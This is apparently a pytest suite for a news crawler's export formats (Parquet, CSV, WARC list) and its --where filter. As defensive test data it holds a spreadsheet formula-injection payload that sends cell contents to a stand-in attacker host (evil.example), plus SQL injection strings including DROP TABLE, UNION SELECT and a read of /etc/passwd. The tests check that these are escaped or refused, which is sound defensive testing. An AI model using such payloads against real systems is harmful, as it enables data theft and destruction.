"""Exports in each format, read by what others read them with."""

import csv
import sys
from dataclasses import replace
from pathlib import Path

import duckdb
import pandas
import polars
import pyarrow.parquet as pq
import pytest

from crawler.errors import UsageError
from crawler.export.kinds import check
from crawler.export.request import Filters, Request
from crawler.items import ArchivePointer, Image
from crawler.record import FIELDS
from tests.export.making import bytes_in, made, records_in, request_of
from tests.export.stores import store_with, story

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Read, now")'
CAPTURE = ArchivePointer("urn:uuid:a", "archive/agency.warc.gz", 7, 9, "sha256:b")


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """Articles of two sites and two months; one with a day only, one with no date, one that a spreadsheet would run."""
    return store_with(
        tmp_path / "out",
        {
            "daily-1": [
                story(1, authors=("Ann Lee", "Bo Ek"), images=(Image("https://daily.example/a.jpg", "A pier"),)),
                story(2, date_published="2026-02-03", title=HOSTILE, text='A line.\n\n"Quoted", and more.'),
                story(3, date_published=None, title="@SUM(1)"),
            ],
            "agency-1": [story(1, "agency", archive=CAPTURE, word_count=900)],
        },
    )


def test_parquet_opens_in_duckdb_polars_and_pandas_with_site_and_month_from_the_path(
    store: Path, tmp_path: Path
) -> None:
    made(request_of(store, tmp_path / "set", form="parquet"))

    data = tmp_path / "set" / "data"
    in_duckdb = duckdb.execute(
        "SELECT site, month, title, len(authors), images[1].caption FROM read_parquet(?) ORDER BY id",
        [f"{data}/**/*.parquet"],
    ).fetchall()
    in_polars = polars.read_parquet(data, hive_partitioning=True)
    in_pandas = pandas.read_parquet(data)
    assert in_duckdb == [
        ("daily", "2026-01", "Story 1", 2, "A pier"),
        ("daily", "2026-02", HOSTILE, 1, None),
        ("daily", "undated", "@SUM(1)", 1, None),
        ("agency", "2026-01", "Story 1", 1, None),
    ]
    assert sorted(in_polars["title"]) == sorted(in_pandas["title"]) == sorted(row[2] for row in in_duckdb)
    assert set(in_polars["site"]) == set(in_pandas["site"]) == {"daily", "agency"}
    assert str(in_pandas["date_published"].dtype) == "datetime64[us, UTC]"


def test_a_time_in_parquet_is_a_moment_in_utc_with_its_precision_and_its_text(store: Path, tmp_path: Path) -> None:
    made(request_of(store, tmp_path / "set", form="parquet"))

    rows = duckdb.execute(
        "SELECT epoch(date_published), date_published_precision, date_published_text, epoch(fetched_at)"
        " FROM read_parquet(?) ORDER BY id",
        [f"{tmp_path}/set/data/site=daily/**/*.parquet"],
    ).fetchall()
    assert rows == [
        (1767407400.0, "second", "2026-01-02T23:30:00-03:00", 1772611200.0),
        (1770076800.0, "day", "2026-02-03", 1772611200.0),
        (None, None, None, 1772611200.0),
    ]


@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00+05:00", "2026-02-30", "../../up"])
def test_a_date_that_is_none_is_null_in_parquet_and_its_text_stays(tmp_path: Path, stamp: str) -> None:
    odd = store_with(tmp_path / "odd", {"daily-1": [story(1, date_published=stamp)]})

    made(request_of(odd, tmp_path / "set", form="parquet"))

    row = pq.read_table(next((tmp_path / "set").rglob("*.parquet"))).to_pylist()[0]
    found = tuple(row[f"date_published{end}"] for end in ("", "_precision", "_text"))
    assert found == (None, None, stamp)


def test_every_parquet_file_has_the_same_schema_and_is_compressed_with_zstd(store: Path, tmp_path: Path) -> None:
    made(request_of(store, tmp_path / "set", form="parquet"))

    files = [pq.ParquetFile(path) for path in sorted((tmp_path / "set").rglob("*.parquet"))]
    schemas = {str(file.schema_arrow) for file in files}
    codecs = {
        file.metadata.row_group(0).column(at).compression for file in files for at in range(file.metadata.num_columns)
    }
    assert (len(files), len(schemas), codecs) == (4, 1, {"ZSTD"})


def test_csv_reads_back_and_no_cell_begins_like_a_formula(store: Path, tmp_path: Path) -> None:
    made(request_of(store, tmp_path / "set", form="csv"))

    with (tmp_path / "set" / "data" / "records-00001.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    assert tuple(rows[0]) == (*FIELDS, "duplicate_group")
    assert titles == ["Story 1", "Story 1", "'" + HOSTILE, "'@SUM(1)"]
    assert texts[2] == 'A line.\n\n"Quoted", and more.'
    assert rows[2][rows[0].index("authors")] == '["Ann Lee","Bo Ek"]'
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r"))]


def test_the_list_of_captures_names_the_range_of_each_record_that_has_one(store: Path, tmp_path: Path) -> None:
    made(request_of(store, tmp_path / "set", form="warc-list"))

    assert (tmp_path / "set" / "data" / "records-00001.tsv").read_text().splitlines() == [
        "file\toffset\tlength\trecord_id\tdigest\turl",
        "archive/agency.warc.gz\t7\t9\turn:uuid:a\tsha256:b\thttps://agency.example/1/",
    ]


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet", "warc-list"])
def test_the_same_records_give_the_same_bytes(store: Path, tmp_path: Path, form: str) -> None:
    made(request_of(store, tmp_path / "one", form=form))
    made(request_of(store, tmp_path / "two", form=form))

    assert bytes_in(tmp_path / "one") == bytes_in(tmp_path / "two")


@pytest.mark.parametrize(
    ("expression", "titles"),
    [
        ("word_count > 300", ["Story 1"]),
        ("list_contains(authors, 'Bo Ek') OR date_published_precision = 'day'", ["Story 1", HOSTILE]),
        ("date_published >= '2026-02-01'", [HOSTILE]),
    ],
)
def test_where_chooses_records_by_their_columns(
    store: Path, tmp_path: Path, expression: str, titles: list[str]
) -> None:
    made(request_of(store, tmp_path / "set", Filters(where=expression)))

    assert [record["title"] for record in records_in(tmp_path / "set")] == titles


@pytest.mark.parametrize(
    ("expression", "said"),
    [
        ("word_coun > 3", 'Referenced column "word_coun" not found'),
        ("word_count >", "syntax error"),
        ("title", "Could not convert string"),
        ("count(*) > 1", "cannot contain aggregates"),
        ("true); DROP TABLE records; --", "syntax error"),
        ("true) UNION SELECT 1 --", "syntax error"),
        ("true; ATTACH 'more.db'", "Parser Error"),
        ("text IN (SELECT content FROM read_text('/etc/passwd'))", "disabled by configuration"),
        ("id IN (SELECT id FROM batch)", "does not exist"),
    ],
)
def test_where_does_no_more_than_look_at_records(store: Path, tmp_path: Path, expression: str, said: str) -> None:
    with pytest.raises(UsageError, match=r"^--where: ") as found:
        made(request_of(store, tmp_path / "set", Filters(where=expression)))

    assert said in str(found.value)
    assert "\n" not in str(found.value)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out"]


@pytest.mark.parametrize(
    ("request_of_it", "said"),
    [
        ({"format": "jsonl", "fields": ("titel",)}, r"no field 'titel' \(did you mean 'title'\?\)"),
        ({"format": "jsonl", "fields": ("title", "title")}, "title is there twice"),
        ({"format": "jsonl", "names": "zyte", "fields": ("title",)}, "no field 'title'"),
        ({"format": "parquet", "compression": "gz"}, "takes no --compress"),
        ({"format": "parquet", "names": "schema.org"}, "needs jsonl or csv"),
        ({"format": "warc-list", "fields": ("url",)}, "takes no --fields"),
    ],
)
def test_options_that_cannot_go_together_are_refused(request_of_it: dict[str, object], said: str) -> None:
    with pytest.raises(UsageError, match=said):
        check(Request(store=Path("out"), to=Path("set"), **request_of_it))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("request_of_it", "absent", "said"),
    [
        ({"format": "parquet"}, "pyarrow", "--format parquet needs pyarrow: pip install 'newskeep[export]'"),
        ({"filters": Filters(where="true")}, "duckdb", "--where needs duckdb: pip install 'newskeep[export]'"),
    ],
)
def test_a_library_that_is_absent_is_named_with_how_to_get_it(
    store: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    request_of_it: dict[str, object],
    absent: str,
    said: str,
) -> None:
    monkeypatch.setitem(sys.modules, absent, None)
    for name in [name for name in sys.modules if name.startswith("pipelines.exports.")]:
        monkeypatch.delitem(sys.modules, name)

    with pytest.raises(UsageError) as found:
        made(replace(request_of(store, tmp_path / "set"), **request_of_it))  # type: ignore[arg-type]

    assert str(found.value) == said


def test_fields_go_out_under_other_names_and_in_the_order_asked_for(store: Path, tmp_path: Path) -> None:
    base = request_of(store, tmp_path / "x")
    made(Request(store=store, to=tmp_path / "cc", format="parquet", names="cc_news", filters=base.filters))
    made(Request(store=store, to=tmp_path / "zyte", format="jsonl", names="zyte", fields=("headline", "url")))

    file = next((tmp_path / "cc").rglob("*.parquet"))
    assert pq.read_schema(file).names == ["title", "text", "domain", "date", "description", "url", "image_url"]
    assert [tuple(record) for record in records_in(tmp_path / "zyte")] == [("headline", "url")] * 4
